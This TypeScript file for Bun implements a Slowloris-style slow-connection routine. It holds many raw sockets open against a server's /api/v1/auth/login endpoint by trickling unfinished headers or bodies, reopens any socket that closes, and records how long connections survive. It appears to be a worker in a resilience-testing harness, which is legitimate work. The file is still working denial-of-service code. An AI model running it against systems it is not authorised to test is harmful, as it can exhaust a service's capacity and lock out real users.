import type { Job } from "./messages.ts";

export interface LorisOptions {
  url: string;
  connections: number;
}

export interface LorisResult {
  /** Connections that were opened in all: each that is closed is opened anew. */
  opened: number;
  closed: number;
  refused: number;
  /** The longest that one was let be. */
  longestMs: number;
}

/** Holds connections on which nothing ever comes to an end: half of them trickle their headers, half a sign-in's body. */
export async function runLoris({ options, ready, isOver, over }: Job<LorisOptions>): Promise<LorisResult> {
  const result: LorisResult = { opened: 0, closed: 0, refused: 0, longestMs: 0 };
  const all = Array.from({ length: options.connections }, async (_, at) => {
    while (!isOver()) {
      await hold(options.url, at % 2 === 0, result, over).catch(() => {
        result.refused += 1;
      });
      // It is slow in coming back, too: what is tried is how many it can hold, not how many it can open.
      await Promise.race([over, Bun.sleep(1_000)]);
    }
  });
  ready();
  await Promise.all(all);
  return result;
}

async function hold(
  url: string,
  isInHeaders: boolean,
  result: LorisResult,
  over: Promise<void>,
): Promise<void> {
  const { hostname, port, host } = new URL(url);
  const closed = Promise.withResolvers<void>();
  const openedAt = performance.now();
  const socket = await Bun.connect({
    hostname,
    port: Number(port),
    socket: { data: () => {}, close: () => closed.resolve(), error: () => closed.resolve() },
  });
  result.opened += 1;
  const head = `POST /api/v1/auth/login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
  socket.write(isInHeaders ? `${head}X-Slow: ` : `${head}Content-Length: 4000\r\n\r\n{`);
  const trickle = setInterval(() => socket.write(" "), 1_000);
  const isOver = await Promise.race([closed.promise.then(() => false), over.then(() => true)]);
  clearInterval(trickle);
  if (isOver) socket.end();
  else {
    result.closed += 1;
    result.longestMs = Math.max(result.longestMs, performance.now() - openedAt);
  }
}
